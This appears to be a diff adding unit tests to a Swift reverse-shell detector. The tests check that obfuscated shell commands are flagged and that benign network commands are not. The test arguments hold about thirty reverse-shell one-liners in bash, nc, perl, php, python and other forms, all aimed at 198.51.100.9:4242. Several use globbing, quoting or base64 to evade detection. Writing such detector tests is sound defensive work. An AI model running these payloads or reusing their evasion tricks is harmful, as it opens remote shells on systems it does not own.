@@ -10,6 +10,13 @@ private func shells(_ text: String, _ origin: TextOrigin = .command) -> [TextDet
 
 private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedString() }
 
+/// In lines, as `base64` writes.
+private func base64(_ text: String, line: Int) -> String {
+  let digits = Array(base64(text))
+  return stride(from: 0, to: digits.count, by: line).map { String(digits[$0..<min($0 + line, digits.count)]) }
+    .joined(separator: "\n")
+}
+
 @Suite struct ReverseShellTests {
   /// Each connects to 198.51.100.9, port 4242.
   @Test(arguments: [
@@ -176,6 +183,36 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     #expect(found?.port == 4242)
   }
 
+  /// What stands for a name, a word or a path; what reads from a device by way of quotes, brackets or `exec`.
+  @Test(arguments: [
+    "/???/b??h -i >& /dev/tcp/198.51.100.9/4242 0>&1", "`echo bash` -i >& /dev/tcp/198.51.100.9/4242 0>&1",
+    "/???/n? -e /???/sh 198.51.100.9 4242", "/bin/n[c] -e /bin/s[h] 198.51.100.9 4242",
+    "n${x}c -e /bin/s${y}h 198.51.100.9 4242",
+    "nc -e /bin/sh 198.51.100.9 `echo 4242`", "nc -e /bin/sh ${LHOST:-198.51.100.9} ${LPORT:-4242}",
+    "a=(bash -i); \"${a[@]}\" >& /dev/tcp/198.51.100.9/4242 0>&1", "'bash' -i >& /dev/tcp/198.51.100.9/4242 0>&1",
+    "\"bash\" \"-i\" >& /dev/tcp/198.51.100.9/4242 0>&1", "{ bash -i; } >& /dev/tcp/198.51.100.9/4242 0>&1",
+    "{ sh; } <> /dev/tcp/198.51.100.9/4242 >&0 2>&0", "exec 0<>/dev/tcp/198.51.100.9/4242 1>&0 2>&0; exec bash",
+    "exec <> /dev/tcp/198.51.100.9/4242 >&0 2>&0 ; sh -i", "bash -c \"bash -i\" <>/dev/tcp/198.51.100.9/4242 >&0 2>&0",
+    "script -qc 'bash -i' /dev/null <>/dev/tcp/198.51.100.9/4242 >&0 2>&0",
+    "script /dev/null -qc /bin/bash <>/dev/tcp/198.51.100.9/4242 >&0 2>&1",
+    "<string>bash -i &gt;&amp; /dev/tcp/198.51.100.9/4242 0&gt;&amp;1</string>",
+    "printf '%b' '\\0142\\0141\\0163\\0150 -i >& /dev/tcp/198.51.100.9/4242 0>&1' | sh",
+    "rm -f /tmp/z;mkfifo /tmp/z;/bin/sh -i</tmp/z 2>&1|nc 198.51.100.9 4242>/tmp/z",
+    "coproc bash; nc 198.51.100.9 4242 <&${COPROC[0]} >&${COPROC[1]}",
+    "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"198.51.100.9:4242\");open STDIN,\"<&\",$s;system \"sh\"'",
+    "php -r '$h=\"198.51.100.9\";$p=4242;$s=stream_socket_client(\"tcp://$h:$p\");$x=proc_open(\"sh\",[$s,$s,$s],$q);'",
+    "echo 'var h=\"198.51.100.9\"; var p=4242; var B = Java.type(\"java.lang.ProcessBuilder\"); var q=new B(\"sh\").start(); var Socket = Java.type(\"java.net.Socket\"); var s=new Socket(h,p);' | jjs",
+    "nmap --script <(echo 'local s=require \"socket\";local t=assert(s.tcp());t:connect(\"198.51.100.9\",4242);local f=assert(io.popen(t:receive(),\"r\"))')",
+    "python -c 'async def m():\n r,w=await asyncio.open_connection(\"198.51.100.9\",4242)\n c=await r.readline()\n os.popen(c)'",
+    "let s=newSocket(); s.connect(\"198.51.100.9\",Port(4242)); while true: s.send(execProcess(s.recvLine()))",
+    "echo \(base64(String(repeating: "#", count: 97) + "\nbash -i >& /dev/tcp/198.51.100.9/4242 0>&1", line: 76)) | base64 -d | sh",
+  ])
+  func seesWhatStandsForAWord(text: String) {
+    let found = shells(text).first { $0.kind == .reverseShell }
+    #expect(found?.host == "198.51.100.9")
+    #expect(found?.port == 4242)
+  }
+
   /// Who starts a wrapped command is named, not what he wraps.
   @Test func namesTheCarrierOfAWrappedCommand() {
     let inner = base64("bash -i >& /dev/tcp/198.51.100.9/4242 0>&1")
@@ -217,6 +254,11 @@ private func base64(_ text: String) -> String { Data(text.utf8).base64EncodedStr
     "websocat ws://10.0.0.1:80/feed", "DB=db.example; PORT=5432; timeout 1 bash -c \"</dev/tcp/$DB/$PORT\"",
     "tcp=80; dev=eth0; sh -c \"ip link show $dev\"",
     "echo H4sIAAAAAAAAA0vOzy0oSi0uTk0BAMIDcX8KAAAA | base64 -d | gunzip > f",
+    "gawk 'BEGIN{s=\"/inet/tcp/0/h.example/80\"; print \"GET /\" |& s; while((s |& getline l)>0) print l}'",
+    "exec 3</dev/tcp/10.0.0.1/13; bash -i", "exec </srv/list; bash", "{ echo; } > /dev/tcp/10.0.0.1/514",
+    "bash -c 'cat' </dev/tcp/10.0.0.1/13", "script -c 'bash -i' typescript", "ls /bin/?sh /???/n?",
+    "coproc cat; nc -l 9000 > f",
+    "cat /etc/hosts | nc 10.0.0.1 9000", "nc 10.0.0.1 9000 < /etc/hosts", "cat f > /dev/tcp/10.0.0.1/9000",
   ])
   func staysQuiet(text: String) { #expect(shells(text).isEmpty) }
 
